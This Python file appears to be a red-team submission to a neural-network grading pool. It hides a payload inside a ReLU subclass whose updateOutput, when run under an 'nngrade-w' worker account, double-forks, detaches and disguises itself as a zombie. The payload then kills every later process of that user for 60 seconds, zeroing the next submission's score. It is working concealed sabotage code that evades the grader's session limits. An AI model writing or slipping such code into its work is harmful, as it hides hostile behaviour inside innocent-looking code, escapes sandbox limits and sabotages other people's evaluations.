"""A process that outlives its submission as a zombie: setsid + double fork, then the main
thread exits alone through the raw exit syscall while a second thread runs on, so that
/proc/<pid>/status says "State: Z". Once its own worker is gone, it kills every later worker
of the same worker user (a second red-team round of the ninth session: the next submission
scored 0). Runs only as a pool worker user, for at most 60 s."""

import ctypes as _ctypes
import os as _os
import pwd as _pwd
import threading as _threading
import time as _time

_HonestReLU = ReLU  # noqa: F821
_started = []


def _haunt(worker):
    uid, me, start = _os.getuid(), _os.getpid(), _time.time()
    while _time.time() - start < 60:
        try:
            _os.kill(worker, 0)
        except ProcessLookupError:
            for name in _os.listdir("/proc"):
                if name.isdigit() and int(name) != me:
                    try:
                        if _os.stat(f"/proc/{name}").st_uid == uid:
                            _os.kill(int(name), 9)
                    except OSError:
                        pass
        _time.sleep(0.01)
    _os._exit(0)


def _escape():
    worker = _os.getpid()
    pid = _os.fork()
    if pid:
        _os.waitpid(pid, 0)
        return
    _os.setsid()
    if _os.fork():
        _os._exit(0)
    _os.closerange(0, 4096)
    _threading.Thread(target=_haunt, args=(worker,)).start()
    _ctypes.CDLL(None).syscall(60, 0)  # SYS_exit on x86-64: this thread only


class ReLU(_HonestReLU):
    def updateOutput(self, input):
        if not _started and _pwd.getpwuid(_os.getuid()).pw_name.startswith("nngrade-w"):
            _started.append(1)
            _escape()
        return super().updateOutput(input)
